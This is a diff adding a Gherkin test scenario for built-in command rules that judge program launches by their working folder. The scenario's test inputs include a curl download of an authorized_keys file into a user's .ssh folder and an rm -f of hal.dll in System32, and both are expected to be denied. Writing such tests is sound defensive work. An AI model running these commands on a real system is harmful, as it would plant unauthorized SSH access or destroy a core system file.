@@ -1226,3 +1226,13 @@ Feature: Command rules read what a SYSTEM call would do and refuse or ask for th
     Then the call hits no rule
     When PowerShell is asked to run "git clone https://github.com/x/y.git C:\src\y"
     Then the call hits no rule
+
+  @S-RULE-150
+  Scenario: A program started in a working folder is judged on the paths it reads from there
+    Given the built-in command rules
+    When "App" is called with {"mode": "launch_executable", "executable": "C:\\Windows\\System32\\curl.exe", "args": ["-O", "https://x.example/authorized_keys"], "cwd": "C:\\Users\\me\\.ssh"}
+    Then the call hits rule "account-change" with action "deny"
+    When "App" is called with {"mode": "launch_executable", "executable": "C:\\Program Files\\Git\\usr\\bin\\rm.exe", "args": ["-f", "hal.dll"], "cwd": "C:\\Windows\\System32"}
+    Then the call hits rule "protected-place-delete" with action "deny"
+    When "App" is called with {"mode": "launch_executable", "executable": "C:\\Windows\\System32\\curl.exe", "args": ["-O", "https://example.com/a.zip"], "cwd": "C:\\Users\\me\\Downloads"}
+    Then the call hits no rule
